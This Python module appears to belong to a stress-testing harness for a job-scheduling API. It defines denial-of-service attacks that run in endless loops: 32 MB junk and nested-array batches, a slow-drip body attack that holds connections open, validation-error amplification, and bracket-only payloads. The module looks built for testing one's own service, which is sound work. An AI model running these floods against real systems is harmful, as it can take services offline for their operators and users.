"""Bodies that cost much to read, to keep or to refuse. All need a key."""

import asyncio

from hostile.attacks.context import WORKER_TARGET, AttackContext, held_for, ndjson, read_status, repeat_forever, run_all

BATCH_BYTES = 33_554_432
NDJSON = {"Content-Type": "application/x-ndjson"}
JSON = {"Content-Type": "application/json"}


async def worthless_lines(context: AttackContext) -> None:
    """Batches as large as they may be: lines that are no JSON, empty lines, one huge line."""
    await _batches(context, [(b"x\n" * (BATCH_BYTES // 2), NDJSON), (b"\n" * BATCH_BYTES, NDJSON)])


async def worthless_arrays(context: AttackContext) -> None:
    """Deep and wide arrays, one huge line."""
    wide = b"[" + b"[]," * (BATCH_BYTES // 3 - 2) + b"[]]"
    deep = b"[" * (BATCH_BYTES // 2) + b"]" * (BATCH_BYTES // 2)
    await _batches(context, [(wide, JSON), (deep, JSON), (b'"' + b"x" * (BATCH_BYTES - 2) + b'"', NDJSON)])


async def _batches(context: AttackContext, bodies: list[tuple[bytes, dict[str, str]]]) -> None:
    async with context.client() as client:

        async def send() -> None:
            for body, headers in bodies:
                context.count(await client.post("/jobs:batch", content=body, headers=headers))

        await asyncio.gather(*(repeat_forever(send) for _ in range(context.size(1, 4))))


async def slow_bodies(context: AttackContext) -> None:
    """Large bodies of which the last bytes come one by one."""
    size = 31 * 1_048_576
    part = b'"' + b"x" * 65_533 + b'",'

    async def send() -> None:
        head = context.head("POST", "/api/v1/jobs:batch", context.keys[0], Content_Length=size, **JSON_HEAD)
        async with context.connection() as (reader, writer):
            writer.write(head + b"[")
            for _ in range(size // len(part) - 1):
                writer.write(part)
                await writer.drain()
            answering = asyncio.ensure_future(read_status(reader))
            is_held = await held_for(answering, 0.5)
            context.counts["bodies held"] += is_held
            while await held_for(answering, 0.5):
                writer.write(b" ")
                await writer.drain()
            context.counts[answering.result()] += 1

    await run_all(send() for _ in range(20))
    await asyncio.Event().wait()


JSON_HEAD = {"Content_Type": "application/json"}


async def amplified_faults(context: AttackContext) -> None:
    """A small batch of which each line has as many faults as fit."""
    fields = {chr(number): 0 for number in range(ord("a"), ord("a") + 10)}
    lines = 10_000
    body = ndjson([fields] * lines)
    async with context.client() as client:

        async def send() -> None:
            context.count(await client.post("/jobs:batch", content=body, headers=NDJSON))
            context.counts |= {"sent KB": len(body) // 1024, "lines": lines}

        await repeat_forever(send)


async def hollow_payloads(context: AttackContext) -> None:
    """Payloads of nothing but brackets, as many as a body may have."""
    hollow = b"[" + b"[]," * 349_000 + b"[]]"
    job = ndjson([{"schedule": "manual", "target": WORKER_TARGET}])[:-2] + b', "payload": ' + hollow + b"}"
    async with context.client() as client:

        async def send() -> None:
            context.count(await client.post("/jobs", content=job, headers=JSON))

        await asyncio.gather(*(repeat_forever(send) for _ in range(4)))
